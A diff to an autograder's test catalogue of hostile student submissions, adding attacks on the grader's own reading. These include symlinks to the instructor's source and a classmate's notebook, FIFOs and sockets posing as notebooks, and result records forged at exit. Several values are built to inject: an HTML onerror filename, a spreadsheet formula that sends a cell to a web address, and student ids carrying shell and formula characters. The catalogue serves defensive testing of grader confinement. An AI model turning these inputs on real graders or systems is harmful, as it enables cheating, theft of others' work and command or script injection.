@@ -14,17 +14,28 @@ student's work, writing outside the scratch folder, the network) are written
 so that the function returns the RIGHT answer only when the attack FAILS:
 under confinement they pass, and a leak would cost points.
 
+Attacks on the grader's own reading (links, FIFOs, forged result records,
+broken JSON, ids that cannot be stored) are the second half: whatever the
+grader would read by following a link (the instructor's source, a
+classmate's notebook) would earn full points, so a leak shows in the grade.
+An attack with a ``student`` of its own stands in a folder of that name; an
+empty ``expected`` means the folder is refused, never graded.
+
 The tests grade the whole catalogue on every change; the benchmark mixes it
 into its batch.
 """
 
 import json
+import os
 import shutil
+import socket
+from contextlib import chdir
 from dataclasses import dataclass, field
 from pathlib import Path
 
 import nbformat
 
+from .course import source_notebook
 from .submissions import EXAMPLES, build_submission, read_answers
 
 ASSIGNMENT = "01_one_query_scores"
@@ -54,6 +65,11 @@ class Attack:
     expected: tuple
     answers: dict = field(default_factory=dict)  # grade_id -> code replacing the correct answer
     damage: object = None                         # damage(notebook_path) -> changes the file
+    student: str = ""                             # the folder's name, when not attack-<name>
+
+    @property
+    def student_id(self):
+        return self.student or f"attack-{self.name}"
 
 
 def _rewrite(path, change):
@@ -113,6 +129,94 @@ def _empty(path):
 def _huge_file(path):
     _rewrite(path, lambda nb: nb.cells.append(nbformat.v4.new_code_cell("# " + "x" * 2_000_000)))
 
+
+CLASSMATE = "zz-after-the-attacks"  # the honest submission graded in the same batch
+
+
+def _json_edit(change):
+    """damage: edit the notebook's JSON as plain data (to make shapes nbformat would refuse to write)."""
+    def damage(path):
+        document = json.loads(Path(path).read_text())
+        change(document)
+        Path(path).write_text(json.dumps(document))
+    return damage
+
+
+def _solution_cell(document, grade_id="inner_product"):
+    return next(c for c in document["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def _link_to_source(path):
+    path.unlink()
+    path.symlink_to(source_notebook(ASSIGNMENT))
+
+
+def _link_to_classmate(path):
+    path.unlink()
+    path.symlink_to(Path("..", "..", CLASSMATE, ASSIGNMENT, path.name))
+
+
+def _beside(make):
+    def damage(path):
+        make(path.parent)
+    return damage
+
+
+def _deeply_nested(path):
+    document = json.loads(Path(path).read_text())
+    text = json.dumps(document)
+    nested = "[" * 100_000 + "]" * 100_000
+    Path(path).write_text(text[:-1] + ', "deep": ' + nested + "}")
+
+
+def _socket_in_place(path):
+    path.unlink()
+    with chdir(path.parent), socket.socket(socket.AF_UNIX) as server:
+        server.bind(path.name)  # a relative name: a socket's path has at most 107 bytes
+
+
+def _nbformat3(path):
+    Path(path).write_text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
+                                      "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "outputs": []}]}]}))
+
+
+def _at_exit(body):
+    """Code for the last solution cell that, when the runner has finished, rewrites records: ``last`` (the last
+    probe's) and ``before`` (the last solution cell's)."""
+    lines = "\n".join("    " + line for line in body.strip().splitlines())
+    return ("import atexit, json, os\n"
+            "def _forge():\n"
+            "    names = sorted(n for n in os.listdir('results') if n.endswith('.json'))\n"
+            "    last, before = (os.path.join('results', name) for name in names[-1:-3:-1])\n"
+            f"{lines}\n"
+            "atexit.register(_forge)\n"
+            "def one_query_scores(q, K):\n"
+            "    return K.T @ q\n")
+
+
+_FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")\x1b[31m\x1b]0;owned\x07"
+_FORGED_ERROR = _at_exit(f"""
+record = json.load(open(last))
+record['cases'] = [{{'error': {_FORMULA!r}, 'error_type': 'ValueError'}} for _ in record['cases']]
+json.dump(record, open(last, 'w'))
+record = json.load(open(before))
+record['output'] = 'x' * 2_000_000
+json.dump(record, open(before, 'w'))
+""")
+_FORGED_DTYPE = _at_exit("""
+record = json.load(open(last))
+for case in record['cases']:
+    case['parts'] = [{'shape': [1], 'data': ['x'], 'dtype': 'U268435456'}]
+json.dump(record, open(last, 'w'))
+""")
+_RESULTS_LINKED = _at_exit("""
+os.rename('results', 'kept')
+os.symlink('kept', 'results')
+""")
+_RESULT_FIFO = _at_exit("""
+os.remove(last)
+os.mkfifo(last)
+""")
 
 CATALOGUE = [
     Attack("input_transformer", "a blank answer that turns every later cell into `pass` (an IPython input transformer)",
@@ -177,6 +281,52 @@ CATALOGUE = [
            (N, N, N, N), damage=_malformed),
     Attack("empty_file", "an empty notebook file",
            (N, N, N, N), damage=_empty),
+    Attack("link_to_source", "the notebook is a symbolic link to the instructor's source (absolute path)",
+           (N, N, N, N), damage=_link_to_source),
+    Attack("link_to_classmate", "the notebook is a relative symbolic link to a classmate's submission",
+           (N, N, N, N), damage=_link_to_classmate),
+    Attack("fifo_beside", "a FIFO named like a notebook beside the real one",
+           (P, P, P, P), damage=_beside(lambda folder: os.mkfifo(folder / "draft.ipynb"))),
+    Attack("dev_zero_beside", "a link to /dev/zero named like a notebook beside the real one",
+           (P, P, P, P), damage=_beside(lambda folder: (folder / "big.ipynb").symlink_to("/dev/zero"))),
+    Attack("socket_as_notebook", "the notebook replaced by a socket of the same name",
+           (N, N, N, N), damage=_socket_in_place),
+    Attack("folder_named_notebook", "the notebook replaced by a folder of the same name",
+           (N, N, N, N), damage=lambda path: (path.unlink(), path.mkdir())),
+    Attack("markup_in_a_name", "a FIFO beside the notebook whose name is HTML and a Markdown link",
+           (P, P, P, P), damage=_beside(lambda folder: os.mkfifo(folder / "<img src=x onerror=alert(1)>[a](javascript:b).ipynb"))),
+    Attack("deeply_nested_json", "100,000 levels of nested lists in the notebook's JSON",
+           (N, N, N, N), damage=_deeply_nested),
+    Attack("null_metadata", "null where a cell's metadata belongs",
+           (N, N, N, N), damage=_json_edit(lambda d: d["cells"][0].update(metadata=None))),
+    Attack("number_in_source", "a number among the lines of a cell's source",
+           (N, N, N, N), damage=_json_edit(lambda d: _solution_cell(d).update(source=["x = 1\n", 7]))),
+    Attack("nbformat_3", "a notebook of the old format 3",
+           (N, N, N, N), damage=_nbformat3),
+    Attack("binary_file", "bytes that are not text",
+           (N, N, N, N), damage=lambda path: path.write_bytes(bytes(range(256)) * 64)),
+    Attack("not_utf8", "a notebook whose text is Latin-1, not UTF-8",
+           (N, N, N, N), damage=lambda path: path.write_bytes(path.read_bytes().replace(b"}", "\u00e9}".encode("latin-1"), 1))),
+    Attack("lone_surrogate_in_code", "a lone surrogate (\\ud800 in the JSON) in a comment of a solution",
+           (P, P, P, P), damage=_json_edit(lambda d: _solution_cell(d).update(source="".join(_solution_cell(d)["source"]) + "\n# \ud800"))),
+    Attack("lone_surrogate_in_output", "a right answer that prints a lone surrogate and terminal escapes",
+           (P, P, P, P), {"inner_product": "print('\\ud800 \\x1b[2J\\x1b[31m red')\ndef inner_product(q, k):\n    return float(q @ k)"}),
+    Attack("forged_error_record", "rewrites its last record at exit: a spreadsheet formula with terminal escapes as "
+           "the error, 2 MB of output", (P, P, P, E), {"one_query_scores": _FORGED_ERROR}),
+    Attack("forged_dtype", "rewrites its last record at exit with an array of dtype U268435456",
+           (P, P, P, X), {"one_query_scores": _FORGED_DTYPE}),
+    Attack("results_replaced_by_link", "replaces the results folder by a symbolic link at exit",
+           (X, X, X, X), {"one_query_scores": _RESULTS_LINKED}),
+    Attack("result_replaced_by_fifo", "replaces its last result file by a FIFO at exit",
+           (P, P, P, X), {"one_query_scores": _RESULT_FIFO}),
+    Attack("glob_and_shell_id", "a student id with glob and shell characters",
+           (P, P, P, P), student="attack-[g]lob*?$(x);&'"),
+    Attack("formula_id", "a student id that a spreadsheet would run as a formula",
+           (P, P, P, P), student="=SUM(1+2)*cmd"),
+    Attack("id_not_utf8", "a student folder name that is not UTF-8 (a Latin-1 zip)",
+           (), student=os.fsdecode(b"attack-caf\xe9")),
+    Attack("id_too_long", "a student folder name of 200 characters",
+           (), student="attack-" + "x" * 193),
 ]
 
 
